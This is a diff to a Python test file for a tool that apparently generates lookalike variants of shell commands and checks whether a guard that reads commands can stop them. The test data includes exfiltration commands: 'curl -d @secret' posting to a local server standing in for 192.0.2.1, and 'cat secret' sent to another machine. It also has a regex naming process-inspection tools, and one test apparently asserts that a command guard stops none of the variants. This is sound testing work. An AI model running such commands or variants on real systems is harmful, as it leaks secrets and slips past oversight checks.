@@ -59,14 +59,24 @@ NOT_ON_MACOS = (
 )
 
 
+@pytest.fixture(scope="module", autouse=True)
+def alone(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
+    """What else runs on the machine is not for these tests to see, whoever calls `ps`."""
+    folder = tmp_path_factory.mktemp("bin")
+    (folder / "ps").write_text("#!/bin/sh\necho 1 init\n")
+    (folder / "ps").chmod(0o755)
+    before = os.environ["PATH"]
+    os.environ["PATH"] = f"{folder}{os.pathsep}{before}"
+    yield
+    os.environ["PATH"] = before
+
+
 def bash(command: str, cwd: Path) -> str:
     env = {
         "PATH": os.environ["PATH"],
         "HOME": str(cwd),
         "TMPDIR": str(cwd.parent),
         "GIT_CONFIG_GLOBAL": os.devnull,
-        # What else runs on the machine is not for these tests to see: bash takes this for `ps`.
-        "BASH_FUNC_ps%%": "() { echo 1 init; }",
         **dict.fromkeys(("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"), "me"),
         **dict.fromkeys(("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"), "me@example.com"),
     }
@@ -278,10 +288,22 @@ def test_what_runs_a_download_runs_it(server: Server, tmp_path: Path) -> None:
     assert failing(found, tmp_path, lambda _: None, lambda cwd, _: (cwd / "done").exists()) == []
 
 
-def test_what_sends_a_file_sends_it(server: Server, tmp_path: Path) -> None:
-    command = f"curl -d @secret http://127.0.0.1:{server.server_port}/x"
-    found = [one for one in runnable(command) if one.kind == "the same effect"]
-    assert len(found) > 20
+@pytest.mark.parametrize(
+    ("command", "kind", "least"),
+    [
+        ("curl -d @secret http://ADDRESS/x", "the same effect", 20),
+        ("cat secret", "sent to another machine", 6),
+    ],
+)
+def test_what_sends_a_file_sends_it(
+    command: str, kind: str, least: int, server: Server, tmp_path: Path
+) -> None:
+    address = f"127.0.0.1:{server.server_port}"
+    there = (("192.0.2.1/80", address.replace(":", "/")), ("192.0.2.1 80", address.replace(":", " ")))
+    found = [one for one in runnable(command.replace("ADDRESS", address)) if one.kind == kind]
+    for before, after in (*there, ("192.0.2.1", address)):
+        found = [one._replace(text=one.text.replace(before, after)) for one in found]
+    assert len(found) > least
     encoded = [b64encode(WORD.encode()), *(WORD.replace(" ", blank).encode() for blank in (" ", "%20", "+"))]
     sent = []
     for number, one in enumerate(found):
@@ -434,9 +456,21 @@ def test_what_looks_alike_does_no_harm(command: str, tmp_path: Path) -> None:
 
 def test_what_runs_on_the_machine_is_not_looked_at(tmp_path: Path) -> None:
     with subprocess.Popen(["python3", "-c", "input()", WORD], stdin=subprocess.PIPE) as other:
-        assert WORD not in bash("ps aux | grep python3", tmp_path)
+        for call in (
+            *("ps aux | grep python3", "command ps aux", "env ps aux", "(ps aux)", 'echo "$(ps aux)"'),
+            *("sh -c 'ps aux'", "echo aux | xargs ps", "bash -c 'unset -f ps; ps aux'", "nice ps aux"),
+        ):
+            assert bash(call, tmp_path) == "1 init\n" or call.endswith("python3"), call
+            assert WORD not in bash(call, tmp_path), call
         assert bash("printf 'a\\377'", tmp_path) == "a\ufffd"
         other.kill()
+
+
+def test_no_look_alike_looks_at_other_processes_but_by_ps() -> None:
+    texts = {one.text for command in (*SPARED, *ACTIONS) for one in mutate.lookalikes(command)}
+    ways = r"/proc|/ps\b|command -p|(?:^|[|;&(] *)(?:pgrep|pkill|top|htop|lsof|w|who|fuser|pidof|pstree)\b"
+    assert [text for text in texts if re.search(ways, text) and not text.startswith(AWAY)] == []
+    assert any(text.startswith("ps ") for text in texts)
 
 
 def test_a_guard_that_reads_the_command_stops_no_look_alike() -> None:
